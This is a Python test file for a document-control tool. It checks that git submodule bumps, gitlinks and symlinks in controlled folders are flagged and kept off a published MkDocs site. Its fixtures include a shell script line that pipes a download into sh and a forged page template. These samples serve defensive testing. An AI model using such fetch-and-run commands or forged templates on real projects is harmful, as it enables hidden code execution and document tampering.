"""Round 36, gitlinks (mode 160000) and links (120000). A controlled folder's files are
judged one by one (`tools/…`, `overrides/…`), but a submodule is one tree entry named like
the folder itself (`tools`, no slash): a change of the commit it points at is a change of
every file in the folder that nobody's diff shows."""

from __future__ import annotations

from rt36_helpers import (
    bump,
    codes_of,
    git_out,
    sub_repo,
    submodule_scenario,
    trail_strict,
    update_submodules,
)

from builders import PROJECT
from site_helpers import mkdocs

HONEST = '{% extends "base.html" %}\n{% block content %}{{ super() }}{% endblock %}\n'
FORGED = (
    '{% extends "base.html" %}\n'
    "{% block content %}<p>FORGED-NOTICE 本文件已于今日作废，请勿执行</p>"
    "{{ super() }}{% endblock %}\n"
)


def test_a_submodule_bump_at_a_controlled_folder_is_judged(tmp_path):
    """`controlled_paths: [tools/]` (the README's advice for scripts CI runs); `tools` is a
    submodule, imported before control. 赵磊 pushes a commit straight to main that points
    `tools` at another commit (its release.sh now pipes a download into sh). git's diff is
    one line, `M tools` (160000).
    Seen: no event at all; `trail --strict` passes ("0 approval events, 0 problems").
    `ApprovalRules.controls("tools")` is False: it matches `tools/` as a prefix only.
    Right: DC516 (a direct change of a controlled path), and --strict fails."""
    url, one, two = sub_repo(
        tmp_path, "tools", "release.sh", "#!/bin/sh\necho release\n", "#!/bin/sh\ncurl x | sh\n"
    )
    s = submodule_scenario(tmp_path, "tools", (url, one))
    sha = bump(s, "tools", two)
    raw = git_out(s, "diff-tree", "-r", "--raw", f"{sha}^", sha).strip()
    assert raw.startswith(":160000 160000") and raw.endswith("M\ttools"), raw
    code, out = trail_strict(s)
    assert "DC516" in codes_of(s.history(), sha) and code != 0, (
        "a direct commit that points the controlled folder tools/ at another commit is "
        f"not judged:\n{out}"
    )


def test_a_submodule_bump_of_the_custom_dir_does_not_reach_the_site(tmp_path):
    """The README's set-up for template overrides: `theme.custom_dir: overrides` with
    `controlled_paths: [overrides/]`; here `overrides` is a submodule (a shared corporate
    theme), imported before control, and CI checks submodules out. 赵磊 pushes a commit
    straight to main that points `overrides` at a commit whose main.html prints "this
    document is void, do not follow it" above every page.
    Seen: the trail is clean, the strict build (DOCCONTROL_STRICT, what CI publishes)
    succeeds, and SM-P-01's page carries the forged notice. `_custom_dir_refusal` finds no
    pending change under `overrides/` and no link in the folder.
    Right: the bump is DC516, and the strict build fails (or leaves the folder out).
    Fixed (session 22): the bump is DC516, and a custom_dir that holds a submodule is refused
    whatever its pointer (its work tree is another repository's, which nothing here checks
    against the approved commit), before the bump as after it."""
    url, one, two = sub_repo(tmp_path, "overrides", "main.html", HONEST, FORGED)
    yml = (PROJECT / "mkdocs.yml").read_text("utf-8")
    assert "  name: material\n" in yml
    yml = yml.replace("  name: material\n", "  name: material\n  custom_dir: overrides\n", 1)
    s = submodule_scenario(tmp_path, "overrides", (url, one), mkdocs_yml=yml)
    first = mkdocs(s.root, tmp_path / "before", True)
    assert first.returncode != 0 and "子模块（overrides）" in first.stderr, first.stderr
    sha = bump(s, "overrides", two)
    update_submodules(s)
    built = mkdocs(s.root, tmp_path / "site", True)
    page = tmp_path / "site/procedures/test/index.html"
    shown = page.read_text("utf-8") if page.is_file() else ""
    code, out = trail_strict(s)
    assert "FORGED-NOTICE" not in shown and (built.returncode != 0 or code != 0), (
        f"a direct bump of the overrides submodule ({sha[:10]}) reaches the strict build: "
        f"build exit {built.returncode}, trail exit {code}:\n{out}"
    )


def test_a_link_and_a_gitlink_named_like_documents_publish_nothing(tmp_path):
    """Guard (holds): SM-P-02 (b.md) is secret. 赵磊's branch adds `c.md`, a gitlink whose id
    is SM-P-01's blob id, and `d.md`, a link to b.md; a forge merges it (刘静 approved).
    History takes neither as a document (DC516.not-regular, --strict fails), `check`,
    `register` and `show` end without a traceback, and a lenient `mkdocs build` succeeds with
    nothing of SM-P-02 on the site (the plugin refuses the link; the gitlink is an empty
    folder)."""
    from rt27_helpers import forge_merge

    from builders import RepoBuilder, procedure
    from history_helpers import cli
    from site_helpers import adopted_site, leaks

    builder = RepoBuilder(tmp_path / "repo")
    builder.doc()
    secret = procedure(doc_id="SM-P-02", title="机密程序甲").replace(
        "confidentiality: internal", "confidentiality: secret"
    )
    builder.write("docs/procedures/b.md", secret.replace("目的的内容。", "SECRET-MARKER。"))
    s = adopted_site(builder)
    blob = git_out(s, "rev-parse", "main:docs/procedures/test.md").strip()
    s.git.branch("cr-links", "main")
    (s.root / "docs/procedures/d.md").symlink_to("b.md")
    (s.root / "docs/procedures/c.md").mkdir()
    s.git.run("add", "-A")
    s.git.run("update-index", "--add", "--cacheinfo", f"160000,{blob},docs/procedures/c.md")
    s.git.run("commit", "-q", "-m", "链接", who="zhaolei", date=s.git.next_date())
    s.git.checkout("main")
    sha = forge_merge(s, "cr-links")
    assert "DC516" in codes_of(s.history(), sha)
    code, out = trail_strict(s)
    assert code != 0, out
    for args in (("check",), ("register",), ("show", "SM-P-01")):
        done = cli(s.root, *args)
        assert "Traceback" not in done.stdout + done.stderr, (args, done.stderr)
    site = tmp_path / "site"
    built = mkdocs(s.root, site, False)
    assert built.returncode == 0, built.stderr
    assert not leaks(site, ["机密程序甲", "SECRET-MARKER", "SM-P-02"])
